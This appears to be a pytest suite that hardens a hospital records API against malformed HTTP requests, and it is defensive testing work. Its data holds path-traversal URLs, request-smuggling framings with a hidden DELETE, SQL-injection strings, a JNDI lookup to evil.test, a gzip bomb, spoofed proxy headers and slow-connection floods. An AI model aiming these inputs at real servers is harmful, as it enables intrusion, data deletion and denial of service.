"""Requests that are bad before any field is read (B05 to B27, B49), sent byte by byte to the API's own operations."""

import gzip
import json
import socket
import time
from collections.abc import Iterator
from concurrent.futures import Future
from contextlib import ExitStack, suppress

import pytest

from tests.edge.anywhere import Answer, is_closed, read_answer
from tests.journey.cut_lines import cut, reset
from tests.journey.hospital import API, MIB, Caller, code_of
from tests.journey.quiet import CANARY, UNKNOWN, Quiet
from tests.journey.sluggish import SLUGGISH
from tests.standalone_process import eventually

pytestmark = pytest.mark.usefixtures("sluggish")

JSON = "Content-Type: application/json"
SIZE = 200_000


@pytest.fixture(autouse=True)
def _nothing_changes_at_the_quiet_hospital(quiet: Quiet) -> Iterator[None]:
    yield
    assert quiet.state() == quiet.before


def part_url(quiet: Quiet) -> str:
    return f"{API}{quiet.waiting.url}/parts/1"


# Bodies that end too soon, come too slowly, or are more than was planned


@pytest.mark.parametrize("end", ["FIN", "RST"])
@pytest.mark.parametrize("sent", [0, 1, SIZE // 2, SIZE - 1])
def test_a_part_that_ends_before_its_length_is_refused_and_not_stored(quiet: Quiet, end: str, sent: int) -> None:
    assert len(quiet.large.data) == SIZE
    cut(quiet.large, 1, sent, end)
    assert quiet.large.arrived() == []
    assert code_of(quiet.large.complete()) == (409, "parts_missing")


@pytest.mark.parametrize("end", ["FIN", "RST"])
@pytest.mark.parametrize("missing", [1, 3, 5])
def test_a_small_body_that_ends_before_its_length_is_no_request(quiet: Quiet, end: str, missing: int) -> None:
    """It is waited for with its head, so that nobody is there yet to answer."""
    staff = quiet.coordinator
    for request in (
        staff.raw("PUT", part_url(quiet), body=quiet.waiting.data),
        staff.raw("POST", f"{API}/packets", JSON, body=json.dumps(quiet.valid_body(("POST", "/packets"))).encode()),
        staff.raw("POST", f"{API}{quiet.open.url}/close", JSON, body=b'{"when_verified": true}'),
    ):
        with staff.connected() as connection:
            connection.sendall(request[:-missing])
            if end == "RST":
                reset(connection)
            else:
                connection.shutdown(socket.SHUT_WR)
                assert is_closed(connection)


def test_a_large_json_body_that_ends_before_its_length_is_refused(quiet: Quiet) -> None:
    body = json.dumps(quiet.valid_body(("POST", "/packets"))).encode().ljust(100_000)
    with quiet.coordinator.connected() as connection:
        connection.sendall(quiet.coordinator.raw("POST", f"{API}/packets", JSON, body=body)[:-1])
        connection.shutdown(socket.SHUT_WR)
        quiet.check_refused(read_answer(connection), (400, "body_incomplete"))
        assert is_closed(connection)


@pytest.mark.parametrize(
    ("headers", "status", "code"),
    [
        (("Content-Length: 6",), 413, "body_too_large"),
        (("Content-Length: 999999999999",), 413, "body_too_large"),
        (("Content-Length: 4",), 422, "part_size_wrong"),
        ((), 411, "length_required"),
        (("Transfer-Encoding: chunked",), 411, "length_required"),
    ],
)
def test_a_body_of_another_length_than_planned_is_refused_unread(
    quiet: Quiet, headers: tuple[str, ...], status: int, code: str
) -> None:
    staff = quiet.coordinator
    for more, body in (((), b"123456"), (("Expect: 100-continue",), b"")):
        with staff.connected() as connection:
            connection.sendall(staff.raw("PUT", part_url(quiet), *headers, *more) + body)
            quiet.check_refused(read_answer(connection), (status, code))


def test_a_body_is_not_asked_for_from_whoever_may_not_send_it(quiet: Quiet) -> None:
    length = ("Content-Length: 5", "Expect: 100-continue")
    for caller, path, status in (
        (quiet.anyone, part_url(quiet), 401),
        (Caller(quiet.installation, "ts_" + "A" * 43), part_url(quiet), 401),
        (quiet.hospital.privacy_officer, part_url(quiet), 403),
        (quiet.recipient, part_url(quiet), 403),
        (quiet.coordinator, f"{API}/packets/{UNKNOWN}/content/a.svs", 404),
        (quiet.coordinator, f"{API}{quiet.closed.url}/content/a.svs", 409),
    ):
        with caller.connected() as connection:
            connection.sendall(caller.raw("PUT", path, *length))
            answer = read_answer(connection)  # a 100 would be taken for it
            assert answer.status == status
            quiet.check_refused(answer)


def test_an_unknown_expectation_is_refused(quiet: Quiet) -> None:
    request = quiet.coordinator.raw("PUT", part_url(quiet), "Expect: 200-ok", body=b"12345")
    assert quiet.coordinator.ask_raw(request).status == 417


# Addresses


@pytest.mark.parametrize(
    "spoilt",
    [
        "{api}/packets/%2e%2e/packets/{id}",
        "{api}/packets/../packets/{id}",
        "{api}//packets/{id}",
        "//{api}/packets/{id}",
        "{api}/packets/{id}/",
        "{api}/packets/{id}.",
        "{api}/packets/{id};v=1",
        "{api}/packets/{id}%00",
        "{api}/packets%2f{id}",
        "{api}/packets%5c{id}",
        "{api}\\packets\\{id}",
        "{api}/./packets/{id}",
        "{api}/packets/%252e%252e/{id}",
        "/API/V1/packets/{id}",
        "{api}/packets/{id}/.",
        "{api}/packets/{id}/..",
        "{api}/packets/{id}%20",
        "{api}/packets/{id}%0a",
        "{api}/packets/{id}%3flimit=1",
        "{api}/%70ackets/{id}%ff",
        "/static/../{api}/packets/{id}",
        "{api}/packets/{id}#x",
        "/t/../../etc/passwd",
        "{api}/.env",
        "/console",
        "/metrics/../healthz",
        "/%5c..%5cwindows",
        "/healthz%00.json",
        "{api}/packets/{id}/content",
    ],
)
def test_an_address_that_reads_in_two_ways_reaches_no_route(quiet: Quiet, spoilt: str) -> None:
    target = spoilt.format(api=API, id=quiet.open.id)
    answer = quiet.coordinator.ask_raw(quiet.coordinator.raw("GET", target))
    assert answer.status in {400, 404, 405}, answer
    assert b"Ada Example" not in answer.body


@pytest.mark.parametrize(
    ("query", "code"),
    [
        ("limit=1&limit=2", "argument_twice"),
        ("cursor=a&limit=1&cursor=a", "argument_twice"),
        ("limit=1&%6cimit=2", "argument_twice"),
        ("organization_id=1", "invalid"),
        ("limit=0", "invalid"),
        ("limit=201", "invalid"),
        ("limit=-1", "invalid"),
        ("limit=1e1", "invalid"),
        ("limit=%D9%A3", "invalid"),
        (f"limit={CANARY}", "invalid"),
        ("limit=", "invalid"),
        ("limit[]=1", "invalid"),
        ("cursor=", "invalid"),
        (f"cursor={CANARY}", "cursor_invalid"),
        ("cursor=%27%20OR%201=1--", "cursor_invalid"),
        ("cursor=YWZ0ZXI6LTE", "cursor_invalid"),
        (f"cursor={'A' * 512}", "cursor_invalid"),
        (f"cursor={'A' * 513}", "invalid"),
        ("__proto__=1", "invalid"),
        ("access_token=ts_x", "invalid"),
    ],
)
def test_a_query_that_is_given_twice_or_not_known_is_refused_in_every_list(quiet: Quiet, query: str, code: str) -> None:
    officer, staff = quiet.hospital.privacy_officer, quiet.coordinator
    lists = [(staff, "/packets"), (staff, "/recipients"), (officer, "/audit"), (quiet.patient, "/patient/accounting")]
    lists += [(officer, f"{quiet.closed.url}/{of}") for of in ("releases", "links", "disclosures")]
    for who, path in lists:
        answer = who.get(f"{path}?{query}")
        quiet.check_refused(answer, (400 if code in {"argument_twice", "cursor_invalid"} else 422, code))


def test_an_argument_in_the_query_and_in_the_body_is_refused(quiet: Quiet) -> None:
    answer = quiet.coordinator.post("/packets/search?state=open", {"state": "closed"})
    quiet.check_refused(answer, (400, "argument_twice"))
    answer = quiet.anyone.post(f"/redeem/challenge?secret={quiet.link.secret}", {"secret": CANARY})
    quiet.check_refused(answer, (400, "argument_twice"))


# Heads


def test_too_many_and_too_large_headers_are_refused(quiet: Quiet) -> None:
    staff = quiet.coordinator
    for headers in (
        ("X-Large: " + "x" * 100_000,),
        tuple(f"X-{n}: {CANARY}" for n in range(1000)),
        ("X: " + "x" * 9000,),
    ):
        assert staff.ask_raw(staff.raw("GET", f"{API}/packets", *headers)).status == 431
    assert staff.ask_raw(staff.raw("GET", f"{API}/packets?x={'x' * 9000}")).status == 414


@pytest.mark.parametrize(
    ("header", "status", "body"),
    [
        ("bytes=5-2", 200, b"a slide of twenty-four b"),
        ("bytes=0-4", 206, b"a sli"),
        ("bytes=20-", 206, b"ur b"),
        ("bytes=-4", 206, b"ur b"),
        ("bytes=0-999999999999999999999999", 200, b"a slide of twenty-four b"),
        ("bytes=0-9999999999", 206, b"a slide of twenty-four b"),
        ("bytes=24-", 416, None),
        ("bytes=-0", 416, None),
        ("bytes=9999999999-", 416, None),
        ("bytes=0-1,3-4", 416, None),
        ("bytes=0-,0-,0-", 416, None),
        ("bytes=" + ",".join(f"{n}-{n}" for n in range(1000)), 416, None),
        ("foo=0-1", 200, b"a slide of twenty-four b"),
        ("bytes 0-1", 200, b"a slide of twenty-four b"),
        ("bytes=-", 200, b"a slide of twenty-four b"),
        ("bytes=\u0660-", 200, b"a slide of twenty-four b"),
        (f"bytes={CANARY}", 200, b"a slide of twenty-four b"),
    ],
)
def test_a_range_is_answered_by_the_rfc_on_the_file_itself(
    quiet: Quiet, header: str, status: int, body: bytes | None
) -> None:
    path = f"{API}/redeemed/files/{quiet.closed.files[0].id}"
    raw = quiet.recipient.raw("GET", path).replace(b"\r\n\r\n", f"\r\nRange: {header}\r\n\r\n".encode())
    answer = quiet.recipient.ask_raw(raw)
    assert answer.status == status
    if body is None:
        quiet.check_refused(answer, (416, "range_not_satisfiable"))
        assert answer.headers["content-range"] == "bytes */24"
    else:
        assert answer.body == body


@pytest.mark.parametrize(
    "framing",
    [
        ("Content-Length: 5", "Transfer-Encoding: chunked"),
        ("Content-Length: 5", "Content-Length: 6"),
        ("Content-Length: 5", "Content-Length: 5"),
        ("Content-Length: 5, 5",),
        ("Transfer-Encoding: chunked", "Transfer-Encoding: chunked"),
        ("Transfer-Encoding: chunked, identity",),
        ("Transfer-Encoding: \x0bchunked",),
        ("Transfer-Encoding : chunked",),
        ("Content-Length: -1",),
        ("Content-Length: +5",),
        ("Content-Length: 1e3",),
        ("Content-Length: 0x5",),
        ("Content-Length: 5_0",),
        ("Content-Length:\r\n 5",),
        ("Content-Length: 5\x00",),
        ("Content Length: 5",),
        ("Content-Length: ",),
    ],
    ids=repr,
)
def test_a_body_whose_end_reads_in_two_ways_is_refused_and_ends_the_connection(
    quiet: Quiet, framing: tuple[str, ...]
) -> None:
    staff = quiet.coordinator
    smuggled = staff.raw("DELETE", f"{API}{quiet.file.url}")
    with staff.connected() as connection:
        connection.sendall(staff.raw("PUT", part_url(quiet), *framing) + b"0\r\n\r\n" + smuggled)
        answer = read_answer(connection)
        assert answer.status in {400, 411, 413, 422, 501}, answer
        assert is_closed(connection)


@pytest.mark.parametrize(
    "raw",
    [
        b"GET /api/v1/packets HTTP/1.1\nHost: x\n\n",
        b"GET  /api/v1/packets HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET /api/v1/packets HTTP/9.9\r\nHost: x\r\n\r\n",
        b"GET /api/v1/packets\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 hello TLS \r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"GET /api/v1/packets HTTP/1.1\r\nHost: x\r\nX: a\rb\r\n\r\n",
        b"GET /api/v1/packets HTTP/1.1\r\nHost: x\r\n folded: x\r\n\r\n",
        b"GET /api/v1/packets HTTP/1.1\r\nHost: x\r\nX\x00Y: z\r\n\r\n",
        b"GET http://elsewhere.test/api/v1/packets HTTP/1.1\r\nHost: elsewhere.test\r\n\r\n",
        b"OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n",
    ],
    ids=repr,
)
def test_what_is_not_well_formed_http_is_refused(quiet: Quiet, raw: bytes) -> None:
    assert 400 <= quiet.anyone.ask_raw(raw).status <= 505


@pytest.mark.parametrize("method", ["TRACE", "CONNECT", "PROPFIND", "get", "TRACK", "PURGE", "X", "DELETE\x0b"])
def test_a_method_that_nobody_offers_is_refused(quiet: Quiet, method: str) -> None:
    answer = quiet.coordinator.ask_raw(quiet.coordinator.raw(method, f"{API}{quiet.open.url}"))
    assert answer.status in {400, 405, 501}


def test_a_method_of_another_operation_is_refused_and_no_header_overrides_it(quiet: Quiet) -> None:
    staff, url = quiet.coordinator, quiet.open.url
    for method, path in (
        ("DELETE", url),
        ("PUT", url),
        ("PATCH", url),
        ("GET", f"{url}/close"),
        ("PUT", f"{url}/retire"),
    ):
        answer = staff.ask(method, path)
        quiet.check_refused(answer, (405, "method_not_allowed"))
        assert method not in answer.headers["allow"]
    for header in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"):
        assert staff.ask("GET", quiet.file.url, headers={header: "DELETE"}).status == 200
        assert staff.ask("POST", quiet.file.url, headers={header: "DELETE"}).status == 405
    assert staff.ask("GET", f"{quiet.file.url}?_method=DELETE").status == 200


@pytest.mark.parametrize(
    "host",
    [
        "evil.test",
        "localhost",
        "127.0.0.1",
        "127.0.0.1:1",
        "{host}.evil.test",
        "{host}@evil.test",
        "evil.test#{host}",
        "user@{host}",
        "' OR 1=1--",
        "{host}/..",
        "{host}, evil.test",
        "{host} ",
        "[::1]",
        "0",
    ],
)
def test_a_foreign_host_is_refused(quiet: Quiet, host: str) -> None:
    staff = quiet.coordinator
    answer = staff.ask_raw(staff.raw("GET", f"{API}/packets", host=host.format(host=staff.host)))
    assert answer.status == 400 or (
        host == "{host} " and answer.status == 200
    )  # blanks around a value are no part of it


def test_no_host_two_hosts_and_an_empty_one_are_refused(quiet: Quiet) -> None:
    staff = quiet.coordinator
    whole = staff.raw("GET", f"{API}/packets")
    host = f"Host: {staff.host}\r\n".encode()
    for other in (b"", b"Host:\r\n", host + b"Host: evil.test\r\n", host + host, b"Host: a\r\n b\r\n"):
        assert staff.ask_raw(whole.replace(host, other)).status == 400


def test_what_a_proxy_would_say_is_not_believed(quiet: Quiet) -> None:
    spoof = {
        "X-Forwarded-For": "203.0.113.7",
        "X-Real-IP": "203.0.113.7",
        "Forwarded": "for=203.0.113.7;host=evil.test;proto=https",
        "X-Forwarded-Host": "evil.test",
        "X-Forwarded-Proto": "https",
        "X-Forwarded-Prefix": "/evil",
        "X-Request-Id": CANARY,
        "X-Original-URL": "/api/v1/audit",
        "X-Rewrite-URL": "/healthz",
        "True-Client-IP": "203.0.113.7",
    }
    body = quiet.operations["POST", "/redeem"].body | {"secret": CANARY}
    answer = quiet.anyone.ask(
        "POST", "/redeem/challenge", b'{"secret": "x"}', {"Content-Type": "application/json", **spoof}
    )
    quiet.check_refused(answer, (404, "not_found"))
    assert (
        quiet.anyone.post("/redeem", body, **{name.replace("-", "_"): value for name, value in spoof.items()}).status
        == 404
    )
    signing = quiet.coordinator.ask(
        "POST",
        f"/releases/{quiet.asked.id}/sign",
        json.dumps(quiet.asked.signature()).encode(),
        {"Content-Type": "application/json", **spoof},
    )
    quiet.check_refused(signing, (403, "not_allowed"))
    (entry, *_) = quiet.hospital.audited("release.sign_refused", release=quiet.asked.id)
    assert entry["address"] == "127.0.0.1"
    assert entry["request_id"] == signing.problem["request_id"]
    assert "203.0.113" not in quiet.logs()["serve"]
    assert quiet.coordinator.ask("GET", "/packets", headers=spoof).status == 200


@pytest.mark.parametrize(
    "cookie",
    [
        "x" * 8000,
        "session=a; session=b",
        "session=eyJhIjoxfQ.forged.signature",
        "__Host-session=x",
        "JSESSIONID=1; csrftoken=2",
        '="',
        ";;;",
        "a=\x80\xff",
        "session=" + "=" * 500,
    ],
    ids=["8 kB", "two", "forged", "host", "another app's", "odd", "empty", "bytes", "signs"],
)
def test_a_cookie_lets_nobody_into_the_api_and_keeps_nobody_out(quiet: Quiet, cookie: str) -> None:
    header = f"Cookie: {cookie}"
    assert code_of(quiet.anyone.ask_raw(quiet.anyone.raw("GET", f"{API}/packets", header))) == (
        401,
        "not_authenticated",
    )
    answer = quiet.coordinator.ask_raw(quiet.coordinator.raw("GET", f"{API}/packets", header))
    assert answer.status == 200
    assert "set-cookie" not in answer.headers


@pytest.mark.parametrize(
    "header",
    [
        "Authorization: Basic YTpi",
        "Authorization: Bearer",
        "Authorization: Bearer  x",
        "Authorization: bearer\tx",
        "Authorization:",
    ],
)
def test_an_authorization_of_another_kind_is_refused(quiet: Quiet, header: str) -> None:
    answer = quiet.anyone.ask_raw(quiet.anyone.raw("GET", f"{API}/packets", header))
    quiet.check_refused(answer, (401, "not_authenticated"))


def test_two_authorizations_are_not_two_chances(quiet: Quiet) -> None:
    for others in (("Authorization: Bearer x",), (f"Authorization: Bearer {quiet.recipient.token}",)):
        assert quiet.coordinator.ask_raw(quiet.coordinator.raw("GET", f"{API}/packets", *others)).status in {400, 401}


@pytest.mark.parametrize("key", ["", " ", "x" * 256, "\x80", "a\tb", "\u20ac"], ids=ascii)
def test_an_idempotency_key_is_a_word_of_ascii(quiet: Quiet, key: str) -> None:
    raw = quiet.coordinator.raw("POST", f"{API}{quiet.open.url}/close", JSON, body=b"{}")
    answer = quiet.coordinator.ask_raw(raw.replace(b"\r\n\r\n", f"\r\nIdempotency-Key: {key}\r\n\r\n".encode()))
    quiet.check_refused(answer, (400, "idempotency_key_malformed"))


# Bodies of other kinds


def test_multipart_is_refused_by_every_operation(quiet: Quiet) -> None:
    form = b"--x\r\nContent-Disposition: form-data; name=a; filename=../../b\r\n\r\n" + b"\r\n" * 1000
    for (method, template), operation in quiet.operations.items():
        if method in {"POST", "PUT"}:
            headers = {"Content-Type": "multipart/form-data; boundary=x"}
            answer = operation.who.ask(method, template.format(**operation.ids), form, headers)
            quiet.check_refused(answer, (415, "multipart_refused"))


def test_fifty_megabytes_of_multipart_are_refused_before_they_are_read(quiet: Quiet) -> None:
    head = quiet.coordinator.raw(
        "PUT", part_url(quiet), "Content-Type: multipart/form-data; boundary=x", f"Content-Length: {50 * MIB}"
    )
    with quiet.coordinator.connected() as connection:
        connection.sendall(head)
        quiet.check_refused(read_answer(connection), (415, "multipart_refused"))
        with suppress(OSError):
            for _ in range(50):
                connection.sendall(bytes(MIB))
    assert quiet.coordinator.get("/packets").status == 200


@pytest.mark.parametrize("encoding", ["gzip", "deflate", "br", "zstd", "identity", "gzip, gzip", CANARY, ""])
def test_a_compressed_body_is_refused_and_never_inflated(quiet: Quiet, encoding: str) -> None:
    bomb = gzip.compress(bytes(20 * MIB))
    for path, kind in ((part_url(quiet), "application/octet-stream"), (f"{API}/packets", "application/json")):
        method = "PUT" if path == part_url(quiet) else "POST"
        raw = quiet.coordinator.raw(method, path, f"Content-Type: {kind}", f"Content-Encoding: {encoding}", body=bomb)
        quiet.check_refused(quiet.coordinator.ask_raw(raw), (415, "content_encoding"))


# Logs


@pytest.mark.parametrize(
    "said",
    [
        f"{CANARY}\x1b[2J\x1b[31m",
        f"{CANARY}${{jndi:ldap://evil.test/x}}",
        f'{CANARY}", "level": "error',
        f"{CANARY} %s %n {{0}}",
        CANARY + "x" * 7000,
    ],
    ids=["escapes", "jndi", "json", "formats", "long"],
)
def test_what_is_sent_is_never_a_line_of_the_log(quiet: Quiet, said: str) -> None:
    staff, lines_before = quiet.coordinator, log_lines(quiet)
    for header in ("User-Agent", "Referer", "Authorization", "X-Request-Id", "Idempotency-Key", "Content-Type"):
        raw = quiet.anyone.raw("POST", f"{API}/redeem/challenge", f"{header}: {said}", body=b'{"secret": "x"}')
        assert 400 <= quiet.anyone.ask_raw(raw).status < 500
    told = said.encode("unicode_escape").decode().replace('"', "%22").replace(" ", "%20")
    for target in (
        f"{API}/packets/{told}",
        f"{API}/{told}",
        f"{API}/packets?{told}=1",
        f"/l?x={told}",
        f"/{told}%0d%0a{told}",
    ):
        assert staff.ask_raw(staff.raw("GET", target)).status in {200, 400, 404, 414, 422}
    assert 400 <= staff.ask_raw(staff.raw(CANARY, f"{API}/packets")).status < 502
    assert eventually(lambda: log_lines(quiet) >= lines_before + 12)  # one for each request: they can have leaked now
    quiet.check_logs()


def log_lines(quiet: Quiet) -> int:
    return quiet.logs()["serve"].count("\n")


def test_a_megabyte_in_one_field_is_refused_and_not_logged(quiet: Quiet) -> None:
    key = ("POST", "/packets/search")
    quiet.check_refused(quiet.ask(key, {"record_number": CANARY * (MIB // len(CANARY))}), (413, "body_too_large"))


# Many at once


def test_five_hundred_silent_connections_keep_nobody_waiting(quiet: Quiet) -> None:
    before = ninety_ninth(quiet)
    with ExitStack() as silent:
        for number in range(500):
            connection = silent.enter_context(quiet.anyone.connected())
            if number % 2:
                connection.sendall(b"GET /api/v1/packets HTTP/1.1\r\nHo")
        assert ninety_ninth(quiet) < max(2.0, 20 * before)


def ninety_ninth(quiet: Quiet) -> float:
    """How many seconds the slowest but one of a hundred lists takes: the slowest may be anybody's fault."""
    took = []
    for _ in range(100):
        began = time.monotonic()
        assert quiet.coordinator.get("/packets").status == 200
        took.append(time.monotonic() - began)
    return sorted(took)[98]


@pytest.mark.parametrize("what", SLUGGISH)
def test_whoever_sends_a_byte_a_second_is_told_so_in_the_end(sluggish: dict[str, "Future[Answer]"], what: str) -> None:
    assert sluggish[what].result(90).status == 408


def test_the_logs_tell_of_no_error_and_of_nothing_that_was_sent(quiet: Quiet) -> None:
    quiet.check_logs()
